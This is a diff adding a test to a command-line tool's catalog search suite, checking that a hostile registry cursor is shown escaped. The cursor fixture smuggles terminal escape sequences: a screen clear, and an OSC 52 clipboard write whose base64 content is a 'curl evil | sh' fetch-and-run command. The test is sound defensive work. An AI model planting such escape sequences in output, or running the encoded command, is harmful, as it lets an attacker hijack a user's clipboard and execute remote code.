@@ -58,6 +58,23 @@ describe('gatehouse catalog search', () => {
     expect(second.stdout).not.toContain('io.github.acme/notes');
   });
 
+  it("shows a hostile registry's cursor made visible: no escape reaches the terminal", async () => {
+    // An OSC 52 clipboard write and a screen clear, as a cursor.
+    registry.fault = { kind: 'cursor', nextCursor: 'x\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\u001b[2Jy' };
+    try {
+      const first = await run('catalog', 'acme', '--limit', '2');
+      expect(first.code).toBe(0);
+      // eslint-disable-next-line no-control-regex -- the test looks for exactly these
+      expect(first.stdout).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
+      expect(first.stdout).toContain(
+        "More: gatehouse catalog search acme --cursor 'x⟦ESC⟧]52;c;Y3VybCBldmlsIHwgc2g=⟦U+0007⟧⟦ESC⟧[2Jy' " +
+          "(the registry's cursor holds characters that cannot be seen, shown ⟦like this⟧; typed, it will not be the same cursor)\n",
+      );
+    } finally {
+      registry.fault = null;
+    }
+  });
+
   it('prints JSON without progress, and says when nothing matches', async () => {
     const json = await run('catalog', 'search', 'tickets', '--json');
     expect(json.stderr).toBe('');
